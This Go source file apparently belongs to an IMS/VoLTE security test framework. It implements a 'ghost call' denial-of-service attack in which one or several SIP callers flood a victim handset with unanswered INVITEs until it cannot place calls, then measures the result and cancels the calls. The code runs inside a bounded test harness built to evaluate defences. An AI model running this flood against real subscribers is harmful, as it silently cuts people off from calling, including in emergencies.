package attack

import (
	"context"
	"errors"
	"slices"
	"strings"
	"time"

	"imsafe/client/ue"
	"imsafe/proto/sip"
	"imsafe/secure"
)

// callGhost: calls that never ring fill a handset, which shows nothing of them.
func callGhost() Attack {
	controls := []secure.ControlID{secure.CIAvailabilityEarlyDialog}
	return Attack{
		ID: "ci.call.ghost", Number: "CI-33", Title: "calls that are held before they ring",
		Text:     "a handset has room for a few calls; filled with silent ones it can place none, and its user sees nothing",
		Services: []Service{Availability}, Stride: Denial, Threats: []Threat{Interruption}, Module: ServicesUser,
		Source: "Lu et al., MobiCom 2020", Access: both(), Crowd: crowd,
		Bounds: Bounds{Packets: 120, Bytes: 120_000, Conns: 2 * crowd, Time: 3 * time.Second},
		Variants: []Variant{
			{Name: "one", Position: Subscriber, Run: holdCalls, Controls: controls},
			{Name: "many", Position: Subscriber, Run: holdCallsOfMany, Controls: controls, Ours: "it takes accomplices with subscriptions at the target"},
		},
	}
}

// crowd is how many call alice together.
const crowd = 6

// holdCalls: one caller alone.
func holdCalls(ctx context.Context, f *Field, o *Outcome) error {
	mallory, err := f.Mallory(ctx)
	if err != nil {
		return err
	}
	return f.hold(ctx, o, 50, mallory)
}

// holdCallsOfMany: several callers, each of whom calls no more often than one may.
func holdCallsOfMany(ctx context.Context, f *Field, o *Outcome) error {
	var all []*Hand
	for i := range crowd {
		h, err := f.accomplice(ctx, i)
		if err != nil {
			return err
		}
		all = append(all, h)
	}
	return f.hold(ctx, o, 2*crowd, all...)
}

// hold calls alice so often, in turn, and looks whether she can place a call then.
func (f *Field) hold(ctx context.Context, o *Outcome, times int, callers ...*Hand) error {
	f.Alice.Quiet()
	invites := make([]string, times)
	for i := range times {
		h := callers[i%len(callers)]
		invites[i] = h.Text(Request{Method: "INVITE", URI: f.Alice.IMPU, Lines: []string{"Contact: " + h.Contact()}})
		if err := h.Write(invites[i]); err != nil {
			return err
		}
	}
	err := hearEnds(ctx, callers, func(ended int) bool { return ended+len(f.Alice.calls) >= times })
	if err != nil {
		return err
	}
	held := len(f.Alice.calls)
	o.Arrived("alice's client holds %d silent calls of %d", held, times)
	defer func() { // while so many strangers ring, nobody else reaches her: that ends when they let go
		for i, invite := range invites {
			_ = callers[i%len(callers)].Write(cancel(invite))
		}
		_ = hearEnds(ctx, callers, func(ended int) bool { return ended >= held })
	}()
	out, in, err := f.Alice.Talk(ctx, f.Bob)
	if err != nil && !errors.Is(err, ue.ErrBusy) {
		return err
	}
	if err != nil {
		o.Users = 1
		o.Peer(true, "%s, and alice cannot place a call", o.Delivered)
		return nil
	}
	o.Peer(false, "%s, and alice can place a call", o.Delivered)
	return attackOver(Part(ctx, out, in))
}

// hearEnds counts the calls that end at the callers, until it is enough.
func hearEnds(ctx context.Context, callers []*Hand, enough func(ended int) bool) error {
	ended := 0
	for i := 0; !enough(ended); i++ {
		err := within(ctx, soon/10, func(ctx context.Context) error {
			_, err := callers[i%len(callers)].Await(ctx, func(m *sip.Message) bool { return !m.IsRequest() && m.Status() >= 300 && m.Status() != 481 })
			return err
		})
		switch {
		case err == nil:
			ended++
		case ctx.Err() != nil || errors.Is(err, ErrClosed):
			return err
		}
	}
	return nil
}

// cancel takes an INVITE back (RFC 3261 9.1).
func cancel(invite string) string {
	head := strings.Split(invite, "\r\n")
	head = slices.DeleteFunc(head, func(line string) bool { return strings.HasPrefix(line, "Contact:") })
	return strings.Replace(strings.Replace(strings.Join(head, "\r\n"), "INVITE ", "CANCEL ", 1), " INVITE\r\n", " CANCEL\r\n", 1)
}
